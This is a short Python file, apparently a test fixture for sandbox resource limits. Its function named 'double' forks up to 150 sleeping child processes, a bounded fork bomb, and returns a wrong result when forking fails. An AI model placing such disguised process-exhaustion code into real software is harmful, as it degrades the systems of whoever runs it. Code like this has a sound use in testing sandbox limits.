"""Starts as many processes as it can."""

import os
import time


def double(x):
    started = 0
    for _ in range(150):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            started += 1
        except OSError:
            pass
    return 2 * x if started else x + 7
